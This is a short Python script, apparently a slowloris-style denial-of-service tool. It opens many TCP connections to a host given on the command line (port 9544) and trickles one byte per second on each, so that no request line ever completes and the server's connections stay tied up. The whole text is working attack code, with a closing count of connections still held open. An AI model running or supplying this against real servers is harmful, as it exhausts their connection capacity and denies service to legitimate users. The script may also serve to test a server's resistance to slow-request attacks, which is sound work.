# slowloris.py HOST CONNECTIONS SECONDS: each connection sends a byte a second, never a whole request line.
import socket, sys, time
host, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
held = []
for _ in range(n):
    s = socket.socket()
    s.connect((host, 9544))
    s.send(b'G')
    held.append(s)
alive = 0
for _ in range(seconds):
    time.sleep(1)
    alive = 0
    for s in held:
        try:
            s.send(b'E')
            alive += 1
        except OSError:
            pass
print('slowloris:', n, 'connections opened,', alive, 'still open at the end')
